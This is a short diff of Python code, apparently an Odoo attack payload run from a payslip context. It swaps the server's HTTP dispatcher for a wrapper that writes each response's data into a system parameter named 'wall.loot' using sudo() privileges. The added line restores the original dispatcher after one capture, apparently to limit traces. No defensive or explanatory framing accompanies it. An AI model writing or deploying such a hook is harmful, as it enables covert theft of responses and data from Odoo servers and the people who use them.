@@ -35,6 +35,7 @@ real = models['ir.http']
 settings = payslip.env['ir.config_parameter'].sudo()
 def keep(response):
     settings.set_param('wall.loot', '{0.data}'.format(response))
+    models['ir.http'] = real
     return real._post_dispatch(response)
 tools.dict.update({'_post_dispatch': keep, '_dispatch': real._dispatch, '_handle_error': real._handle_error})
 models['ir.http'] = tools
